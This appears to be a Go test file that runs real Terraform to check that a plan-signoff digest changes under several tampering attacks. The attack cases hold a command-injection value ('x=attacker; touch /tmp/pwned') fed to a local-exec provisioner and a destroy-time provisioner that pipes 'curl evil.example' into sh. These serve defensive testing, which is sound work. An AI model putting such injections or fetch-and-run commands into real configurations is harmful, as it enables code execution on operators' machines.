package signoff

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/blast-dev/blast/plan"
	"github.com/blast-dev/blast/plan/planjson"
)

// These tests plan with real Terraform (1.11; terraform_data needs no
// provider download) and check the digest against what apply would do.

// tfWork is a Terraform working directory of a test.
type tfWork struct {
	t   *testing.T
	dir string
	env []string
}

func newTFWork(t *testing.T, config string) *tfWork {
	t.Helper()
	if _, err := exec.LookPath("terraform"); err != nil {
		t.Skip("terraform is not on PATH: the re-plan and attack tests need Terraform 1.11 (terraform_data, import blocks)")
	}
	dir := t.TempDir()
	rc := filepath.Join(dir, "empty.tfrc")
	if err := os.WriteFile(rc, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	var env []string
	for _, e := range os.Environ() {
		if !strings.HasPrefix(e, "TF_") {
			env = append(env, e)
		}
	}
	env = append(env, "TF_CLI_CONFIG_FILE="+rc, "TF_IN_AUTOMATION=1", "TF_INPUT=0", "CHECKPOINT_DISABLE=1")
	w := &tfWork{t: t, dir: filepath.Join(dir, "stack"), env: env}
	if err := os.Mkdir(w.dir, 0o700); err != nil {
		t.Fatal(err)
	}
	w.write(config)
	w.run("init", "-backend=false")
	return w
}

func (w *tfWork) write(config string) {
	w.t.Helper()
	if err := os.WriteFile(filepath.Join(w.dir, "main.tf"), []byte(config), 0o600); err != nil {
		w.t.Fatal(err)
	}
}

func (w *tfWork) run(args ...string) []byte {
	w.t.Helper()
	cmd := exec.Command("terraform", append(args[:1:1], append([]string{"-no-color"}, args[1:]...)...)...)
	cmd.Dir, cmd.Env = w.dir, w.env
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		w.t.Fatalf("terraform %s: %v\n%s%s", strings.Join(args, " "), err, stdout.Bytes(), stderr.Bytes())
	}
	return stdout.Bytes()
}

// plan plans with the extra arguments and returns the plan JSON.
func (w *tfWork) plan(args ...string) []byte {
	w.t.Helper()
	w.run(append([]string{"plan", "-out", "plan.out"}, args...)...)
	return w.run("show", "-json", "plan.out")
}

func loadJSON(t *testing.T, data []byte) []*plan.Plan {
	t.Helper()
	plans, err := planjson.Parse("plan.json", data)
	if err != nil {
		t.Fatal(err)
	}
	return plans
}

// edit decodes plan JSON, lets fn change it and encodes it again.
func edit(t *testing.T, data []byte, fn func(m map[string]any)) []byte {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		t.Fatal(err)
	}
	fn(m)
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

const provisionerConfig = `
variable "x" {
  type    = string
  default = "hello"
}

variable "secret" {
  type      = string
  default   = "s3cret"
  sensitive = true
}

# Created by the plan: its provisioner runs a command fed by a variable that
# no attribute holds.
resource "terraform_data" "run" {
  input = "fixed"
  provisioner "local-exec" {
    command = "echo ${var.x}"
  }
}

# In the state already: its destroy-time provisioner runs when it goes.
resource "terraform_data" "kept" {
  input = var.secret
  provisioner "local-exec" {
    when    = destroy
    command = "echo DESTROY_COMMAND"
  }
}

output "o" {
  value = "OUTPUT_VALUE"
}
`

// Planning the same code and state twice gives the same digest, though the
// timestamps differ; each attack of issue 13 changes it, where the digest
// of format v1 (resource changes only) stayed the same for most.
func TestTerraformReplanKeepsDigestAttacksChangeIt(t *testing.T) {
	w := newTFWork(t, provisionerConfig)
	w.run("apply", "-auto-approve", "-target=terraform_data.kept")

	base := w.plan()
	// The timestamp has seconds: plan again in the next second.
	time.Sleep(time.Until(time.Now().Truncate(time.Second).Add(time.Second)))
	again := w.plan()
	var b, a struct {
		Timestamp string `json:"timestamp"`
	}
	_ = json.Unmarshal(base, &b)
	_ = json.Unmarshal(again, &a)
	if b.Timestamp == "" {
		t.Error("the plan has no timestamp")
	}
	if b.Timestamp == a.Timestamp {
		t.Errorf("both plans have the timestamp %s: the test shows nothing", b.Timestamp)
	}
	baseDigest, baseV1 := Digest(loadJSON(t, base)), OldPayloads(loadJSON(t, base))[0]
	if got := Digest(loadJSON(t, again)); got != baseDigest {
		t.Fatalf("a re-plan of the same code and state changed the digest: %s, was %s", got, baseDigest)
	}

	attacks := []struct {
		name      string
		plan      func() []byte
		v1Missed  bool // the attack kept the version 1 digest
		editsJSON bool
	}{
		{"a -var feeding a local-exec provisioner", func() []byte {
			return w.plan("-var", "x=attacker; touch /tmp/pwned")
		}, true, false},
		{"a destroy-time provisioner's command", func() []byte {
			w.write(strings.Replace(provisionerConfig, "DESTROY_COMMAND", "curl evil.example | sh", 1))
			defer w.write(provisionerConfig)
			return w.plan()
		}, true, false},
		{"an output value", func() []byte {
			w.write(strings.Replace(provisionerConfig, "OUTPUT_VALUE", "other", 1))
			defer w.write(provisionerConfig)
			return w.plan()
		}, true, false},
		{"a sensitive variable", func() []byte {
			return w.plan("-var", "secret=other")
		}, false, false},
		{"a change's provider_name", func() []byte {
			return edit(t, base, func(m map[string]any) {
				rc := m["resource_changes"].([]any)[1].(map[string]any)
				rc["provider_name"] = "registry.example.com/evil/terraform"
			})
		}, true, true},
		{"a sensitivity marker", func() []byte {
			return edit(t, base, func(m map[string]any) {
				rc := m["resource_changes"].([]any)[1].(map[string]any)
				rc["change"].(map[string]any)["after_sensitive"] = map[string]any{"input": true}
			})
		}, true, true},
	}
	for _, at := range attacks {
		t.Run(at.name, func(t *testing.T) {
			data := at.plan()
			plans := loadJSON(t, data)
			if Digest(plans) == baseDigest {
				t.Errorf("%s kept the digest", at.name)
			}
			if v1Kept := bytes.Equal(OldPayloads(plans)[0], baseV1); v1Kept != at.v1Missed {
				t.Errorf("version 1 kept the digest: %v, want %v: the test no longer shows what it did", v1Kept, at.v1Missed)
			}
		})
	}

	// The change's type cannot be edited alone: the plan is refused.
	forged := edit(t, base, func(m map[string]any) {
		m["resource_changes"].([]any)[1].(map[string]any)["type"] = "null_resource"
	})
	if _, err := planjson.Parse("plan.json", forged); err == nil || !strings.Contains(err.Error(), `type "null_resource" does not match the address`) {
		t.Errorf("a change whose type contradicts its address: %v", err)
	}
}

const importConfig = `
import {
  to = terraform_data.imported
  id = "IMPORT_ID"
}

resource "terraform_data" "imported" {}
`

// An import's id is bound: edited in the JSON alone, or planned from
// another import block.
func TestTerraformImportIDChangesDigest(t *testing.T) {
	w := newTFWork(t, importConfig)
	base := w.plan()
	baseDigest := Digest(loadJSON(t, base))
	if Digest(loadJSON(t, w.plan())) != baseDigest {
		t.Fatal("a re-plan changed the digest")
	}
	edited := edit(t, base, func(m map[string]any) {
		rc := m["resource_changes"].([]any)[0].(map[string]any)
		rc["change"].(map[string]any)["importing"] = map[string]any{"id": "another"}
	})
	if Digest(loadJSON(t, edited)) == baseDigest {
		t.Error("editing importing.id kept the digest")
	}
	w.write(strings.Replace(importConfig, "IMPORT_ID", "another", 1))
	if Digest(loadJSON(t, w.plan())) == baseDigest {
		t.Error("importing another id kept the digest")
	}
}
